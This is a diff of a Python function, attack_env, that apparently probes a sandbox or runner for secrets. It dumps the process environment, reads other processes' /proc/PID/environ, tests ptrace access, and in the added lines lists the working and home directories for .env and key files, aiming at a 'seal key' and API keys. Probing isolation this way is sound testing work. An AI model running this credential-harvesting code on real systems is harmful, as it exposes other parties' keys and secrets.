@@ -63,8 +63,12 @@ def try_read(path: str) -> str | None:
 
 def attack_env() -> None:
     """The seal key and the runner's API keys: own environment, every readable
-    /proc/PID/environ, and whether any other process's memory can be opened (ptrace)."""
+    /proc/PID/environ, the runner's working directory and home (``.env`` files, key
+    files), and whether any other process's memory can be opened (ptrace)."""
     SEEN["own_env"] = dict(os.environ)
+    SEEN["cwd"] = os.getcwd()
+    SEEN["cwd_listing"] = sorted(os.listdir("."))  # the runner's working directory
+    SEEN["home_listing"] = sorted(os.listdir(os.path.expanduser("~")))
     others: dict[str, str] = {}
     mem: dict[str, str] = {}
     for d in glob.glob("/proc/[0-9]*"):
